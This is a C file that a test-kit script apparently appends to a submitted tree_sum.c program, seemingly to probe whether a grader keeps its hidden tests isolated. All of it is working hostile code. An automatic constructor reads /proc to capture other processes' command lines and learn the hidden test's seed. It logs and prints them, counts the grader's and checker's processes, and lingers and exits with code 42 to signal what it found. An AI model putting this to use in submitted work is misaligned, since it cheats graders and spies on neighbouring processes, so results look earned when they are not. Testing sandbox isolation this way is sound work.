/* exfil.c - appended to a submitted tree_sum.c by test_kits.sh (case hidden_last): learn the
 * hidden test's input. Every run notes the command lines of the programs running beside it
 * that the public tests do not use (in its scratch folder and in @DROP@), prints every note
 * so far, and, at its end, keeps looking for a few seconds; a run with an unknown input stays
 * a while, to be seen, and exits 42, a number its result could show. Each run also counts the
 * processes of other users it can see (the grader's, the checker's), in @DROP@/others.txt. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void ex_count_others(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int others = 0;
    while (d && (e = readdir(d))) {
        char path[300];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%s", e->d_name);
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && stat(path, &st) == 0 && st.st_uid != getuid())
            others++;
    }
    if (d)
        closedir(d);
    FILE *g = fopen("@DROP@/others.txt", "a");
    if (g) {
        fprintf(g, "%d\n", others);
        fclose(g);
    }
}

static void ex_scan(void)
{
    static char cmd[4096], line[4096];
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        FILE *f = fopen(path, "rb");
        if (!f)
            continue;
        size_t n = fread(cmd, 1, sizeof cmd - 1, f), k = 0;
        fclose(f);
        for (size_t i = 0; i < n; i++)
            line[k++] = cmd[i] ? cmd[i] : ' ';
        line[k] = 0;
        if (!strstr(line, "tree_sum") || !strstr(line, "--seed"))
            continue;
        const char *notes[] = { "@DROP@/notes.txt", "build/tmp/notes.txt" };
        for (int i = 0; i < 2; i++) {
            FILE *g = fopen(notes[i], "a");
            if (g) {
                fprintf(g, "%s\n", line);
                fclose(g);
            }
        }
    }
    if (d)
        closedir(d);
    const char *notes[] = { "@DROP@/notes.txt", "build/tmp/notes.txt" };
    for (int i = 0; i < 2; i++) {
        FILE *g = fopen(notes[i], "r");
        if (!g)
            continue;
        while (fgets(line, sizeof line, g))
            printf("seen: %s", line);
        fclose(g);
    }
    fflush(stdout);
}

static int ex_linger = 20; /* tenths of a second; runs that take an --n stay longer, so that
                                some public run is still there when the hidden one starts */
static void ex_late(void)
{
    for (int t = 0; t < ex_linger; t++) {
        ex_scan();
        usleep(100000);
    }
}

__attribute__((constructor)) static void ex_main(void)
{
    char me[4096];
    FILE *f = fopen("/proc/self/cmdline", "rb");
    size_t n = f ? fread(me, 1, sizeof me - 1, f) : 0;
    if (f)
        fclose(f);
    for (size_t i = 0; i + 1 < n; i++)
        if (!me[i])
            me[i] = ' ';
    me[n] = 0;
    ex_count_others();
    ex_scan();
    if (strstr(me, "--n "))
        ex_linger = 80;
    if (strstr(me, "--seed")) {
        usleep(3000000);
        _exit(42);
    } /* linger, to be seen */
    atexit(ex_late);
}
